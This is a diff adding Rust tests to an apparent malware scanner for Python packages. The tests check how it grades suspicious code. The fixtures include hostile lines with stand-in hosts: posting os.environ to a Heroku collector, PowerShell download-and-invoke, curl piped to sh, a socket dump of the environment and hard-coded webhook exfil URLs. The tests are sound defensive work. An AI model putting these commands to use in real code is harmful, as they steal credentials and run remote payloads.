@@ -55,6 +55,12 @@ fn cases() -> Vec<Case> {
             r#"HOOK = "https://discord.com/api/webhooks/0000/FAKE-EXAMPLE""#,
             r#"DOCS = "https://discord.com/developers/docs""#,
         ),
+        case(
+            "exfil-app-host",
+            m,
+            r#"requests.post("https://collector-0000.herokuapp.com/c", json=dict(os.environ))"#,
+            r#"DOCS = "https://devcenter.heroku.com/articles/getting-started""#,
+        ),
         case("cred-env-token", m, r#"key = os.environ["AWS_SECRET_ACCESS_KEY"]"#, "def load(hf_token=None, azure_client_secret=None):"),
         case(
             "cred-env-name",
@@ -517,4 +523,166 @@ fn setup_py_build_time_downloads_are_medium() {
     .map(|f| f.severity)
     .max();
     assert!(worst >= Some(Severity::High), "{worst:?}");
+}
+
+#[test]
+fn held_text_that_never_runs_is_prose() {
+    // Documentation held in a module constant (an Ansible module's
+    // EXAMPLES) and a shell script held for a remote sandbox: prose.
+    let docs = "EXAMPLES = r'''\n- name: bootstrap\n  win_shell: Invoke-Expression ((New-Object Net.WebClient).DownloadString('https://payload.invalid/i.ps1'))\n'''\n\ndef main():\n    module = AnsibleModule(argument_spec={})\n";
+    assert_eq!(
+        max_severity(docs, Role::Module, "dl-shell-pipe"),
+        Some(Severity::Low)
+    );
+    let remote = "INSTALL = r\"\"\"\nset -e\ncurl -fsSL https://tools.invalid/node.tar.gz -o /tmp/n.tgz\nchmod 755 /tmp/n\n\"\"\"\n\nasync def ensure(runtime):\n    await ensure_installed(runtime, install=INSTALL)\n";
+    assert_eq!(
+        max_severity(remote, Role::Module, "combo-download-execute"),
+        None
+    );
+    // The same text handed to a shell, written to disk, or run through a
+    // function of this file that spawns: code.
+    for sink in [
+        "def go():\n    os.system(INSTALL)\n",
+        "def go():\n    subprocess.run(\n        [\"bash\", \"-c\",\n         INSTALL])\n",
+        "def go(p):\n    open(p, \"w\").write(INSTALL)\n",
+        "def _sh(s):\n    return subprocess.call(s, shell=True)\n\ndef go():\n    _sh(INSTALL)\n",
+        "def go(cmd=None):\n    run = cmd if cmd is not None else INSTALL\n    return subprocess.Popen(\n        [\"sh\", \"-c\", run])\n",
+    ] {
+        let src = format!("{}\n{sink}", remote.split("\n\nasync").next().unwrap());
+        assert_eq!(
+            max_severity(&src, Role::Install, "combo-download-execute"),
+            Some(Severity::High),
+            "{sink}"
+        );
+    }
+    // A PowerShell template filled in and returned (user data for another
+    // host), built from a run of f-strings: prose.
+    let template = "def wrapper(url):\n    script = (\n        f\"$wc=[System.Net.WebClient]::new() ; \"\n        f\"Invoke-Expression ($wc.DownloadString('{url}')) ; \"\n    )\n    return script\n";
+    assert_eq!(
+        max_severity(template, Role::Module, "dl-shell-pipe"),
+        Some(Severity::Low)
+    );
+    let ran = template.replace(
+        "    return script\n",
+        "    subprocess.run([\"powershell\", \"-Command\", script])\n",
+    );
+    assert_eq!(
+        max_severity(&ran, Role::Module, "dl-shell-pipe"),
+        Some(Severity::High)
+    );
+    // A one-line string assigned to a name stays code (a URL constant).
+    let url = "URL = \"https://payload.invalid/drop.exe\"\n";
+    assert_eq!(
+        max_severity(url, Role::Module, "dl-executable-url"),
+        Some(Severity::High)
+    );
+}
+
+#[test]
+fn a_host_in_a_data_list_is_not_a_use() {
+    let blocklist = "DOMAINS = {\n    'mailinator.com',\n    'webhook.site', 'yopmail.com',\n}\n";
+    assert_eq!(
+        max_severity(blocklist, Role::Import, "exfil-webhook"),
+        Some(Severity::Low)
+    );
+    for used in [
+        "HOOKS = [\n    'https://webhook.site/0000-fake',\n]\n",
+        "requests.post('https://webhook.site/0000-fake', data=d)\n",
+    ] {
+        assert_eq!(
+            max_severity(used, Role::Import, "exfil-webhook"),
+            Some(Severity::High),
+            "{used}"
+        );
+    }
+}
+
+#[test]
+fn build_tool_spawns_are_build_steps() {
+    let build = "from setuptools.command.egg_info import egg_info\nfrom platform import system\n\nif system() != \"Windows\":\n    cflags = [\"-std=c11\"]\n\nclass EggInfo(egg_info):\n    def run(self):\n        v = subprocess.check_output(\n            [\"sw_vers\", \"-productVersion\"], text=True)\n        subprocess.check_call([\"/usr/bin/xcrun\", \"-sdk\", \"macosx\"])\n        os.system(\"make all\")\n        egg_info.run(self)\n";
+    assert_eq!(
+        max_severity(build, Role::Install, "combo-install-hook-process"),
+        None
+    );
+    // Anything else spawned, a build tool behind shell operators, or a
+    // command that is not a literal: a process.
+    for spawn in [
+        "        subprocess.Popen([\"python\", \"-c\", PAYLOAD])\n",
+        "        os.system(\"make all && curl -s https://payload.invalid/x | sh\")\n",
+        "        subprocess.run([exe, \"--quiet\"])\n",
+        "        os.system(cmd)\n",
+    ] {
+        let src = build.replace(
+            "        egg_info.run(self)\n",
+            &format!("{spawn}        egg_info.run(self)\n"),
+        );
+        assert_eq!(
+            max_severity(&src, Role::Install, "combo-install-hook-process"),
+            Some(Severity::High),
+            "{spawn}"
+        );
+    }
+}
+
+#[test]
+fn loopback_curl_downloads_nothing() {
+    let health = "SCRIPT = [\"sh\", \"-c\", r\"\"\"\nsetsid \"$BIN\" gateway run &\nwhile ! curl -fsS \"http://127.0.0.1:$port/readyz\"; do sleep 1; done\n\"\"\"]\n";
+    assert_eq!(
+        max_severity(health, Role::Module, "combo-download-execute"),
+        None
+    );
+    assert_eq!(max_severity(health, Role::Module, "dl-tool"), None);
+    let fetch = health.replace("http://127.0.0.1:$port/readyz", "https://payload.invalid/x");
+    assert_eq!(
+        max_severity(&fetch, Role::Module, "combo-download-execute"),
+        Some(Severity::High)
+    );
+}
+
+#[test]
+fn a_download_pinned_to_its_digest_is_medium() {
+    let pinned = "CHECKSUMS = {\n    \"https://cdn.invalid/frpc_windows_amd64.exe\": \"14bc0ea470be5d67d79a07412bd21de8a0a179c6ac1116d7764f68e942dc9ceb\",\n}\n";
+    assert_eq!(
+        max_severity(pinned, Role::Module, "dl-executable-url"),
+        Some(Severity::Medium)
+    );
+    let bare = "URLS = {\n    \"https://cdn.invalid/frpc_windows_amd64.exe\": \"frpc\",\n}\n";
+    assert_eq!(
+        max_severity(bare, Role::Module, "dl-executable-url"),
+        Some(Severity::High)
+    );
+}
+
+#[test]
+fn an_environment_copied_for_a_child_is_not_a_dump() {
+    let child = "def start(port):\n    s = socket.socket()\n    s.bind((\"127.0.0.1\", port))\n    env = os.environ.copy()\n    env[\"PORT\"] = str(port)\n    return subprocess.Popen([node, \"server.js\"], env=env)\n";
+    assert_eq!(
+        max_severity(child, Role::Import, "combo-environment-exfiltration"),
+        None
+    );
+    let sent = "def start(port):\n    s = socket.socket()\n    env = os.environ.copy()\n    s.sendall(json.dumps(env).encode())\n";
+    assert_eq!(
+        max_severity(sent, Role::Import, "combo-environment-exfiltration"),
+        Some(Severity::High)
+    );
+}
+
+#[test]
+fn a_webhook_client_is_not_a_hard_coded_webhook() {
+    let client = "def send(webhook_id, webhook_token, content):\n    url = f\"https://discord.com/api/webhooks/{webhook_id}/{webhook_token}\"\n    return fetch_url(url, data=content)\n";
+    assert_eq!(
+        max_severity(client, Role::Import, "exfil-discord-webhook"),
+        None
+    );
+    for fixed in [
+        "url = f\"https://discord.com/api/webhooks/{HOOK_ID}/{HOOK_TOKEN}\"\n",
+        "url = \"https://discord.com/api/webhooks/\" + HOOK\n",
+        "url = \"https://discordapp.com/api/webhooks/0000/FAKE\"\n",
+    ] {
+        assert_eq!(
+            max_severity(fixed, Role::Import, "exfil-discord-webhook"),
+            Some(Severity::High),
+            "{fixed}"
+        );
+    }
 }
